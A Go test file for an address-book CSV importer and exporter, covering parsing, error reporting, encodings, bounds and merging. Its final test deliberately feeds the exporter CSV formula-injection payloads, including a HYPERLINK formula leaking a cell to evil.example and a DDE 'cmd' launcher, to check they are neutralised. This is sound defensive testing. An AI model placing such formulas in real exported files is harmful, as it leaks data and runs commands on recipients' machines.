package addressbook

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/text/encoding/charmap"

	"github.com/elph-server/elph/platform/store"
	"github.com/elph-server/elph/platform/store/storetest"
)

// csvLine is what a test expects of a rejected line.
type csvLine struct {
	line int
	want string // in the message
}

func TestReadCSV(t *testing.T) {
	tests := []struct {
		name     string
		in       string
		want     []Record // ExternalID "" means: check it is derived
		rejected []csvLine
	}{
		{
			name: "comma file",
			in: "id,last_name,first_name,middle_name,organization,department,title,phone_work,phone_extension,phone_mobile,phone_home,phone_other,email,info\n" +
				"7,Иванов,Пётр,Сергеевич,ООО Ромашка,Бухгалтерия,Главный бухгалтер,8 (495) 123-45-67,1001,+7 916 123-45-67,,,P.Ivanov@Corp.RU,\n",
			want: []Record{{Source: SourceCSV, ExternalID: "7", Fields: Fields{
				FirstName: "Пётр", MiddleName: "Сергеевич", LastName: "Иванов", DisplayName: "Иванов Пётр Сергеевич",
				Organization: "ООО Ромашка", Department: "Бухгалтерия", Title: "Главный бухгалтер",
				Phones: []Phone{
					{Number: "8 (495) 123-45-67", Kind: PhoneWork, Normalized: "74951234567"},
					{Number: "1001", Kind: PhoneExtension, Normalized: "1001"},
					{Number: "+7 916 123-45-67", Kind: PhoneMobile, Normalized: "79161234567"},
				},
				Emails: []string{"p.ivanov@corp.ru"}, Messengers: []Messenger{},
			}}},
		},
		{
			name: "semicolons, BOM, CRLF, columns in any order and case",
			in:   "\ufeffDisplay_Name;ID;Phone_Mobile\r\nСидорова Анна;a-1;8 916 000-00-01\r\n\"Петров; Пётр\";a-2;\r\n",
			want: []Record{
				{Source: SourceCSV, ExternalID: "a-1", Fields: Fields{DisplayName: "Сидорова Анна",
					Phones: []Phone{{Number: "8 916 000-00-01", Kind: PhoneMobile, Normalized: "79160000001"}}, Emails: []string{}, Messengers: []Messenger{}}},
				{Source: SourceCSV, ExternalID: "a-2", Fields: Fields{DisplayName: "Петров; Пётр", Phones: []Phone{}, Emails: []string{}, Messengers: []Messenger{}}},
			},
		},
		{
			name: "quoted multi-line info, doubled quotes, quotes inside an unquoted field",
			in: "id,display_name,organization,info\n" +
				"1,Кузнецов Иван,ООО \"Ромашка\",\"первая строка\r\nвторая, с запятой\n\"\"цитата\"\"\"\n" +
				"2, \"Орлов, Олег\" ,,\n",
			want: []Record{
				{Source: SourceCSV, ExternalID: "1", Fields: Fields{DisplayName: "Кузнецов Иван", Organization: `ООО "Ромашка"`,
					Info: "первая строка\nвторая, с запятой\n\"цитата\"", Phones: []Phone{}, Emails: []string{}, Messengers: []Messenger{}}},
				{Source: SourceCSV, ExternalID: "2", Fields: Fields{DisplayName: "Орлов, Олег", Phones: []Phone{}, Emails: []string{}, Messengers: []Messenger{}}},
			},
		},
		{
			name: "several values in a cell, messengers, duplicates dropped",
			in: "id;display_name;phone_work;email;messenger_telegram;messenger_WhatsApp\n" +
				"1;Белов Борис;\"+7 495 111-11-11, 8 (495) 111-11-12; 74951111111\";\"b@corp.ru; B@Corp.ru,boris@home.ru\";@belov;+79161111111\n",
			want: []Record{{Source: SourceCSV, ExternalID: "1", Fields: Fields{DisplayName: "Белов Борис",
				Phones: []Phone{
					{Number: "+7 495 111-11-11", Kind: PhoneWork, Normalized: "74951111111"},
					{Number: "8 (495) 111-11-12", Kind: PhoneWork, Normalized: "74951111112"},
				},
				Emails:     []string{"b@corp.ru", "boris@home.ru"},
				Messengers: []Messenger{{Kind: "telegram", Handle: "@belov"}, {Kind: "whatsapp", Handle: "+79161111111"}},
			}}},
		},
		{
			name: "blank rows and a nameless empty column are skipped",
			in:   "\n  \nid,display_name,\n\n1,Зайцев,\n,,\n;;;\n",
			want: []Record{{Source: SourceCSV, ExternalID: "1", Fields: Fields{DisplayName: "Зайцев", Phones: []Phone{}, Emails: []string{}, Messengers: []Messenger{}}}},
			// ";;;" is one non-empty field here (the separator is ",").
			rejected: []csvLine{{7, "1 fields, the header has 3"}},
		},
		{
			name: "no id column: derived",
			in:   "display_name,phone_work\nЕгоров,1001\nЕгорова,\n",
			want: []Record{
				{Source: SourceCSV, Fields: Fields{DisplayName: "Егоров", Phones: []Phone{{Number: "1001", Kind: PhoneWork, Normalized: "1001"}}, Emails: []string{}, Messengers: []Messenger{}}},
				{Source: SourceCSV, Fields: Fields{DisplayName: "Егорова", Phones: []Phone{}, Emails: []string{}, Messengers: []Messenger{}}},
			},
		},
		{
			name: "broken lines are reported with their line numbers",
			in: "id,display_name,phone_work,email,info\n" + // 1
				"1,Первый,1001,,\"две\nстроки\"\n" + // 2-3
				"2,Второй,1002\n" + // 4: too few fields
				"3,Третий,12-AB-34,,\n" + // 5: bad phone
				"4,,1004,,\n" + // 6: no name
				"5,Пятый\xff,1005,,\n" + // 7: bad UTF-8
				"6,Шестой,1006,not-an-address,\n" + // 8
				"1,Седьмой,1007,,\n" + // 9: id of line 2
				"8,Восьмой,1008,,\"" + strings.Repeat("x", MaxCSVLineBytes) + "\"\n" + // 10: too long
				"9,Девятый\x00,1009,,\n" + // 11: NUL
				"10,\"Десятый\"x,1010,,\n" + // 12: text after a quote
				"11,Одиннадцатый,1011,,,\n" + // 13: too many fields
				"12,\"Двенадцатый,1012,,\n" + // 14: a quote never closed...
				"13,Тринадцатый,1013,,\n", // 15: ...costs only its line
			want: []Record{
				{Source: SourceCSV, ExternalID: "1", Fields: Fields{DisplayName: "Первый", Phones: []Phone{{Number: "1001", Kind: PhoneWork, Normalized: "1001"}}, Emails: []string{}, Messengers: []Messenger{}, Info: "две\nстроки"}},
				{Source: SourceCSV, ExternalID: "13", Fields: Fields{DisplayName: "Тринадцатый", Phones: []Phone{{Number: "1013", Kind: PhoneWork, Normalized: "1013"}}, Emails: []string{}, Messengers: []Messenger{}}},
			},
			rejected: []csvLine{
				{4, "3 fields, the header has 5"},
				{5, `phone_work: "12-AB-34" is not a phone number`},
				{6, "needs a name"},
				{7, "not valid UTF-8"},
				{8, `"not-an-address" is not an e-mail address`},
				{9, `id "1" is already on line 2`},
				{10, "longer than 65536 bytes"},
				{11, "NUL"},
				{12, "text after the closing quote"},
				{13, "6 fields, the header has 5"},
				{14, "not closed"},
			},
		},
		{
			name: "same person twice without ids",
			in:   "display_name,phone_work\nЕгоров,1001\nегоров ,1001\nЕгоров,1002\n",
			want: []Record{
				{Source: SourceCSV, Fields: Fields{DisplayName: "Егоров", Phones: []Phone{{Number: "1001", Kind: PhoneWork, Normalized: "1001"}}, Emails: []string{}, Messengers: []Messenger{}}},
				{Source: SourceCSV, Fields: Fields{DisplayName: "Егоров", Phones: []Phone{{Number: "1002", Kind: PhoneWork, Normalized: "1002"}}, Emails: []string{}, Messengers: []Messenger{}}},
			},
			rejected: []csvLine{{3, "the same person as line 2"}},
		},
		{
			name: "field bounds",
			in: "id,display_name,title,phone_work,email\n" +
				"1," + strings.Repeat("я", MaxNameRunes+1) + ",,,\n" +
				"2,Тест," + "a\x07b" + ",,\n" +
				"3,Тест,," + strings.Repeat("1,", MaxPhones+1) + ",\n" +
				strings.Repeat("x", MaxExternalID+1) + ",Тест,,,\n",
			rejected: []csvLine{{2, "display_name is longer than 255"}, {3, "title contains control characters"}, {4, "fields, the header has 5"}, {5, "id is longer than 255"}},
		},
		{
			name: "too many values in a cell",
			in: "id,display_name,phone_work\n" +
				"1,Тест,\"" + strings.Repeat("1,", MaxPhones+1) + "\"\n",
			rejected: []csvLine{{2, "more than 20 phones"}},
		},
		{
			name:     "a value under a nameless column",
			in:       "id,,display_name\n1,x,Тест\n",
			rejected: []csvLine{{2, "column 2, which has no name"}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			recs, rejected, err := ReadCSV(strings.NewReader(tt.in))
			if err != nil {
				t.Fatal(err)
			}
			for i := range tt.want {
				if tt.want[i].ExternalID == "" && i < len(recs) {
					if !strings.HasPrefix(recs[i].ExternalID, autoIDPrefix) {
						t.Errorf("record %d: id %q, want a derived one", i, recs[i].ExternalID)
					}
					tt.want[i].ExternalID = recs[i].ExternalID
				}
			}
			if !reflect.DeepEqual(recs, tt.want) && len(recs)+len(tt.want) > 0 {
				t.Errorf("records:\n got %+v\nwant %+v", recs, tt.want)
			}
			checkRejected(t, rejected, tt.rejected)
		})
	}
}

func checkRejected(t *testing.T, got []RecordError, want []csvLine) {
	t.Helper()
	if len(got) != len(want) {
		t.Errorf("%d lines rejected, want %d:", len(got), len(want))
		for _, e := range got {
			t.Errorf("  line %d: %v", e.Line, e.Err)
		}
		return
	}
	for i, w := range want {
		if got[i].Line != w.line || !strings.Contains(got[i].Err.Error(), w.want) || !errors.Is(got[i].Err, ErrInvalid) {
			t.Errorf("rejected #%d: line %d %q, want line %d with %q", i, got[i].Line, got[i].Err, w.line, w.want)
		}
		if strings.HasPrefix(got[i].Err.Error(), "addressbook:") {
			t.Errorf("line %d: message %q has the package prefix", got[i].Line, got[i].Err)
		}
	}
}

func TestReadCSVDerivedIDsAreStable(t *testing.T) {
	a := "display_name,phone_work,email\nЁжиков Семён,8 (495) 123-45-67,\nПустов,,P@corp.ru\n"
	b := "email,display_name,phone_work\n,ежиков  семен ,+7 495 1234567\np@CORP.ru,Пустов,\n"
	ra, _, err := ReadCSV(strings.NewReader(a))
	if err != nil {
		t.Fatal(err)
	}
	rb, _, err := ReadCSV(strings.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	if len(ra) != 2 || len(rb) != 2 || ra[1].ExternalID != rb[1].ExternalID {
		t.Fatalf("ids differ between equivalent files: %+v / %+v", ra, rb)
	}
	// Case and ё fold; inner spaces are part of the name.
	if fold("Ёжиков Семён") != fold("ежиков семен") && ra[0].ExternalID == rb[0].ExternalID {
		t.Error("unexpected equality")
	}
	if ra[0].ExternalID == ra[1].ExternalID {
		t.Error("two people share a derived id")
	}
}

func TestReadCSVFileErrors(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"empty", "", "the file is empty"},
		{"only blank lines", "\n \r\n\n", "the file is empty"},
		{"no header", "Иванов,1001\n", "is not a header"},
		{"unknown columns", "id,display_name,phone,e-mail\n", `unknown column(s) "phone", "e-mail"`},
		{"duplicate column", "id,display_name,ID\n", `"id" appear more than once`},
		{"no name column", "id,email\n", "no name column"},
		{"bad messenger column", "display_name,messenger_\n", `unknown column(s) "messenger_"`},
		{"too many messenger columns", "display_name" + func() string {
			var b strings.Builder
			for i := range maxMessengerColumns + 1 {
				fmt.Fprintf(&b, ",messenger_m%d", i)
			}
			return b.String()
		}() + "\n", "33 messenger columns"},
		{"UTF-16", "\xff\xfei\x00d\x00", "UTF-16"},
		{"broken header", "id,\"display_name\n", "header (line 1)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			recs, rejected, err := ReadCSV(strings.NewReader(tt.in))
			if err == nil || !strings.Contains(err.Error(), tt.want) || recs != nil || rejected != nil {
				t.Errorf("got %v (%d records, %d rejected), want an error with %q", err, len(recs), len(rejected), tt.want)
			}
			if err != nil && !errors.Is(err, ErrInvalid) {
				t.Errorf("%v is not ErrInvalid", err)
			}
		})
	}
}

func TestReadCSVBounds(t *testing.T) {
	big := func(t *testing.T) {
		if testing.Short() {
			t.Skip("a big input")
		}
	}
	t.Run("too many rows", func(t *testing.T) {
		big(t)
		var b bytes.Buffer
		b.WriteString("display_name,phone_work\n")
		for i := range MaxCSVRows + 1 {
			fmt.Fprintf(&b, "p,%d\n", i)
		}
		_, _, err := ReadCSV(&b)
		// The 200 001st row (line 200 002) is one too many.
		if err == nil || !strings.Contains(err.Error(), "more than 200000 rows (line 200002)") {
			t.Errorf("got %v", err)
		}
	})
	t.Run("too large", func(t *testing.T) {
		r := io.MultiReader(strings.NewReader("display_name\n"), endless{})
		if _, _, err := readCSV(r, 1<<20); err == nil || !strings.Contains(err.Error(), "larger than 1 MiB") {
			t.Errorf("got %v", err)
		}
		// A file is refused by its size, before it is read.
		f, err := os.Create(filepath.Join(t.TempDir(), "big.csv"))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if err := f.Truncate(MaxCSVBytes + 1); err != nil {
			t.Fatal(err)
		}
		if _, _, err := ReadCSV(f); err == nil || !strings.Contains(err.Error(), "larger than 128 MiB") {
			t.Errorf("got %v", err)
		}
	})
	t.Run("many unclosed quotes cost linear time", func(t *testing.T) {
		// Every line opens a quote that the next ones never close: each
		// could be re-read up to 64 KiB; the budget keeps it linear.
		var b strings.Builder
		b.WriteString("id,display_name\n")
		for range 20000 {
			b.WriteString("1,\"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n")
		}
		_, rejected, err := ReadCSV(strings.NewReader(b.String()))
		if err != nil || len(rejected) == 0 {
			t.Fatalf("%d rejected, %v", len(rejected), err)
		}
		if rejected[0].Line != 2 {
			t.Errorf("first rejected line %d", rejected[0].Line)
		}
	})
	t.Run("a long line within the bound", func(t *testing.T) {
		info := strings.Repeat("я", MaxInfoRunes)
		recs, rejected, err := ReadCSV(strings.NewReader("display_name,info\nТест," + info + "\n"))
		if err != nil || len(rejected) != 0 || len(recs) != 1 || recs[0].Info != info {
			t.Errorf("%d records, %v, %v", len(recs), rejected, err)
		}
	})
}

// endless reads "x\n" forever.
type endless struct{}

var endlessChunk = bytes.Repeat([]byte("x\n"), 16<<10)

func (endless) Read(p []byte) (int, error) {
	return copy(p, endlessChunk[:min(len(p)&^1, len(endlessChunk))]), nil
}

func TestReadCSVWindows1251(t *testing.T) {
	utf := "id;last_name;first_name;organization;info\r\n1;ПЁТРОВ;Семён;ООО «Ёлка»;№ 5 — ёмкость\r\n2;Щукин;Юрий;;\r\n"
	cp, err := charmap.Windows1251.NewEncoder().String(utf)
	if err != nil {
		t.Fatal(err)
	}
	recs, rejected, err := ReadCSV(strings.NewReader(cp))
	if err != nil || len(rejected) != 0 || len(recs) != 2 {
		t.Fatalf("%d records, %v, %v", len(recs), rejected, err)
	}
	if recs[0].DisplayName != "ПЁТРОВ Семён" || recs[0].Organization != "ООО «Ёлка»" || recs[0].Info != "№ 5 — ёмкость" || recs[1].LastName != "Щукин" {
		t.Errorf("decoded %+v", recs)
	}
	// A UTF-8 file with one broken line stays UTF-8.
	recs, rejected, err = ReadCSV(strings.NewReader("id,display_name\n1,Иванов Иван Иванович\n2,\xcf\xe5\xf2\xf0\xee\xe2\n3,Сидоров\n"))
	if err != nil || len(recs) != 2 || len(rejected) != 1 || rejected[0].Line != 3 {
		t.Errorf("%+v %v %v", recs, rejected, err)
	}
}

// TestCSVFixtures reads the files in testdata/csv: each NAME.csv holds
// what its NAME.want lists ("ok ID DISPLAY_NAME" or "line N TEXT").
func TestCSVFixtures(t *testing.T) {
	files, err := filepath.Glob(filepath.Join("testdata", "csv", "*.csv"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no fixtures: %v", err)
	}
	for _, file := range files {
		t.Run(filepath.Base(file), func(t *testing.T) {
			in, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			wantText, err := os.ReadFile(strings.TrimSuffix(file, ".csv") + ".want")
			if err != nil {
				t.Fatal(err)
			}
			recs, rejected, err := ReadCSV(bytes.NewReader(in))
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, r := range recs {
				got = append(got, "ok "+r.ExternalID+" "+r.DisplayName)
			}
			for _, e := range rejected {
				got = append(got, fmt.Sprintf("line %d %s", e.Line, e.Err))
			}
			want := strings.Split(strings.TrimSpace(string(wantText)), "\n")
			if len(got) != len(want) {
				t.Fatalf("got:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
			}
			for i := range want {
				if !strings.HasPrefix(got[i], strings.TrimSpace(want[i])) {
					t.Errorf("got %q, want it to start with %q", got[i], want[i])
				}
			}
		})
	}
}

func TestWriteCSVRoundTrip(t *testing.T) {
	contacts := []Contact{
		{ID: 3, Fields: Fields{
			FirstName: "Пётр", MiddleName: "Сергеевич", LastName: "Иванов", DisplayName: "Иванов П. С.",
			Organization: `ООО "Ромашка", филиал`, Department: "Бухгалтерия; касса", Title: " ",
			Phones: []Phone{
				{Number: "8 (495) 123-45-67", Kind: PhoneWork, Normalized: "74951234567"},
				{Number: "+7 495 123-45-68", Kind: PhoneWork, Normalized: "74951234568"},
				{Number: "1001", Kind: PhoneExtension, Normalized: "1001"},
				{Number: "+7 916 123-45-67", Kind: PhoneMobile, Normalized: "79161234567"},
				{Number: "8 495 000 00 00", Kind: PhoneHome, Normalized: "74950000000"},
				{Number: "112", Kind: PhoneOther, Normalized: "112"},
			},
			Emails:     []string{"p.ivanov@corp.ru", "petr@home.ru"},
			Messengers: []Messenger{{Kind: "telegram", Handle: "@ivanov"}, {Kind: "telegram", Handle: "@petr"}, {Kind: "sip", Handle: "sip:1001@pbx"}},
			Info:       "строка 1\nстрока \"2\"\n\tс отступом",
		}},
		{ID: 10, Fields: Fields{DisplayName: "Без телефонов", Phones: []Phone{}, Emails: []string{}, Messengers: []Messenger{}}},
	}
	contacts[0].Title = ""
	var b bytes.Buffer
	calls := 0
	err := WriteCSV(&b, func(fn func(Contact) error) error {
		calls++
		for _, c := range contacts {
			if err := fn(c); err != nil {
				return err
			}
		}
		return nil
	}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if calls != 2 {
		t.Errorf("each called %d times", calls)
	}
	header, _, _ := strings.Cut(b.String(), "\n")
	if header != "id,first_name,middle_name,last_name,display_name,organization,department,title,phone_work,phone_extension,phone_mobile,phone_home,phone_other,email,info,messenger_sip,messenger_telegram" {
		t.Errorf("header %s", header)
	}
	recs, rejected, err := ReadCSV(&b)
	if err != nil || len(rejected) != 0 || len(recs) != len(contacts) {
		t.Fatalf("%d records, %v, %v", len(recs), rejected, err)
	}
	for i, c := range contacts {
		want := c.Fields
		if i == 0 { // messengers come back by kind, sorted
			want.Messengers = []Messenger{{Kind: "sip", Handle: "sip:1001@pbx"}, {Kind: "telegram", Handle: "@ivanov"}, {Kind: "telegram", Handle: "@petr"}}
		}
		if recs[i].ExternalID != "contact:"+strconv.FormatInt(c.ID, 10) || !reflect.DeepEqual(recs[i].Fields, want) {
			t.Errorf("round trip of contact %d:\n got %q %+v\nwant %+v", c.ID, recs[i].ExternalID, recs[i].Fields, want)
		}
	}

	t.Run("the directory changes between the passes", func(t *testing.T) {
		pass := 0
		err := WriteCSV(&bytes.Buffer{}, func(fn func(Contact) error) error {
			pass++
			c := Contact{ID: 1, Fields: Fields{DisplayName: "x"}}
			if pass == 2 {
				c.Messengers = []Messenger{{Kind: "icq", Handle: "1"}}
			}
			return fn(c)
		}, nil)
		if err == nil || !strings.Contains(err.Error(), "run it again") {
			t.Errorf("got %v", err)
		}
	})
}

// abContacts lists the directory's contacts by display name.
func abContacts(t *testing.T, d *Directory) map[string]Contact {
	t.Helper()
	out := make(map[string]Contact)
	err := d.Each(context.Background(), func(c Contact) error {
		if _, dup := out[c.DisplayName]; dup {
			t.Errorf("two contacts named %q", c.DisplayName)
		}
		out[c.DisplayName] = c
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func mustReadCSV(t *testing.T, in string) []Record {
	t.Helper()
	recs, rejected, err := ReadCSV(strings.NewReader(in))
	if err != nil || len(rejected) != 0 {
		t.Fatalf("ReadCSV: %v %v", rejected, err)
	}
	return recs
}

func TestCSVImportMergesWithOtherSources(t *testing.T) {
	storetest.ForEachDialect(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		d := NewDirectory(db, nil)
		_, err := d.Sync(ctx, SourceAccounts, []Record{{ExternalID: "7", UserID: 7, Fields: Fields{
			DisplayName: "Иванов Пётр", Emails: []string{"ivanov@corp.ru"},
			Phones: []Phone{{Number: "1001", Kind: PhoneExtension}},
		}}}, true, nil)
		if err != nil {
			t.Fatal(err)
		}
		_, err = d.Sync(ctx, SourceSoftswitch, []Record{{ExternalID: "s1", Fields: Fields{
			DisplayName: "Сидорова Анна", Phones: []Phone{{Number: "+7 495 765-43-21"}},
		}}}, true, nil)
		if err != nil {
			t.Fatal(err)
		}
		recs := mustReadCSV(t, "last_name;first_name;phone_mobile;phone_work;email;department\n"+
			"Иванов;Пётр;+7 916 111-22-33;;IVANOV@corp.ru;Бухгалтерия\n"+ // same e-mail as the account
			"Сидорова;Анна;;8 495 765 43 21;;Склад\n"+ // same name and number as the softswitch
			"Новиков;Олег;;1003;;\n")
		res, err := d.Sync(ctx, SourceCSV, recs, true, nil)
		if err != nil {
			t.Fatal(err)
		}
		if res.Created != 1 || res.Merged != 2 || res.RejectedCount != 0 {
			t.Errorf("result %+v", res)
		}
		cs := abContacts(t, d)
		if len(cs) != 3 {
			t.Fatalf("%d contacts: %v", len(cs), cs)
		}
		iv := cs["Иванов Пётр"]
		if iv.UserID != 7 || !reflect.DeepEqual(iv.Sources, []string{SourceAccounts, SourceCSV}) || iv.Department != "Бухгалтерия" ||
			len(iv.Phones) != 2 || iv.Phones[0].Normalized != "1001" || iv.Phones[1].Normalized != "79161112233" {
			t.Errorf("merged contact %+v", iv)
		}
		if s := cs["Сидорова Анна"]; !reflect.DeepEqual(s.Sources, []string{SourceSoftswitch, SourceCSV}) || s.Department != "Склад" || len(s.Phones) != 1 {
			t.Errorf("merged contact %+v", s)
		}

		// The same file again changes nothing.
		res, err = d.Sync(ctx, SourceCSV, recs, true, nil)
		if err != nil || res.Unchanged != 3 || res.Created+res.Merged+res.Updated+res.Removed != 0 {
			t.Errorf("second import %+v %v", res, err)
		}
	})
}

func TestCSVExportImportRoundTrip(t *testing.T) {
	storetest.ForEachDialect(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		d := NewDirectory(db, nil)
		_, err := d.Sync(ctx, SourceAccounts, []Record{{ExternalID: "1", UserID: 1, Fields: Fields{
			DisplayName: "Админов Админ", Emails: []string{"admin@corp.ru"}, Messengers: []Messenger{{Kind: "telegram", Handle: "@admin"}},
		}}}, true, nil)
		if err != nil {
			t.Fatal(err)
		}
		recs := mustReadCSV(t, "display_name,phone_work,phone_mobile,email,info,messenger_telegram\n"+
			"Кузнецов Иван,8 495 100-00-01,,,\"многострочная\nзаметка\",@kuz\n"+
			"Орлова Ольга,,\"+7 916 000-00-02, +7 916 000-00-03\",olga@corp.ru,,\n"+
			"Админов Админ,1000,,ADMIN@corp.ru,,\n")
		if _, err := d.Sync(ctx, SourceCSV, recs, true, nil); err != nil {
			t.Fatal(err)
		}
		before := abContacts(t, d)
		export := func() string {
			var b bytes.Buffer
			n, err := d.ExportCSV(ctx, &b)
			if err != nil || n != len(abContacts(t, d)) {
				t.Fatalf("export: %d contacts, %v", n, err)
			}
			return b.String()
		}
		first := export()
		if !strings.Contains(first, "многострочная\nзаметка") || !strings.Contains(first, "messenger_telegram") || !strings.Contains(first, "\nauto:") {
			t.Errorf("export:\n%s", first)
		}

		// Re-importing the export updates the same records: the ones the
		// file made are unchanged, the one merged with an account takes
		// the account's fields; the contacts stay as they were.
		res, err := d.Sync(ctx, SourceCSV, mustReadCSV(t, first), true, nil)
		if err != nil {
			t.Fatal(err)
		}
		if res.Created != 0 || res.Merged != 0 || res.Removed != 0 || res.Unchanged != 2 || res.Updated != 1 {
			t.Errorf("first re-import %+v", res)
		}
		after := abContacts(t, d)
		for name, c := range before {
			a := after[name]
			if a.ID != c.ID || !reflect.DeepEqual(a.Fields, c.Fields) {
				t.Errorf("%s changed:\n%+v\n%+v", name, c, a)
			}
		}
		second := export()
		if second != first {
			t.Errorf("exports differ:\n%s\n---\n%s", first, second)
		}
		res, err = d.Sync(ctx, SourceCSV, mustReadCSV(t, second), true, nil)
		if err != nil || res.Unchanged != 3 || res.Created+res.Merged+res.Updated+res.Removed != 0 {
			t.Errorf("second re-import %+v %v", res, err)
		}

		// Contacts of other sources only are exported as "contact:<id>";
		// imported, they join their contacts.
		if _, err := d.Sync(ctx, SourceCSV, nil, true, nil); err != nil {
			t.Fatal(err)
		}
		only := export()
		if !strings.Contains(only, "\ncontact:") {
			t.Errorf("export:\n%s", only)
		}
		res, err = d.Sync(ctx, SourceCSV, mustReadCSV(t, only), true, nil)
		if err != nil || res.Merged != 1 || res.Created != 0 {
			t.Errorf("import of an accounts contact %+v %v", res, err)
		}
	})
}

func TestWriteCSVGuardsFormulas(t *testing.T) {
	hostile := Fields{
		DisplayName: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Organization: "+cmd|' /C calc'!A0",
		Department: "-2+3", Title: "@SUM(1+1)", Info: "=1+1\nsecond line",
		Phones: []Phone{{Number: "+7 495 123-45-67", Kind: PhoneWork, Normalized: "74951234567"}},
		Emails: []string{}, Messengers: []Messenger{{Kind: "telegram", Handle: "@evil"}},
	}
	var b bytes.Buffer
	err := WriteCSV(&b, func(fn func(Contact) error) error { return fn(Contact{ID: 1, Fields: hostile}) }, nil)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s starts a formula: %q", rows[0][i], cell)
		}
	}
	recs, rejected, err := ReadCSV(bytes.NewReader(b.Bytes()))
	if err != nil || len(rejected) != 0 || len(recs) != 1 {
		t.Fatalf("%d records, %v, %v", len(recs), rejected, err)
	}
	if !reflect.DeepEqual(recs[0].Fields, hostile) {
		t.Errorf("read back %+v\nwant %+v", recs[0].Fields, hostile)
	}
}
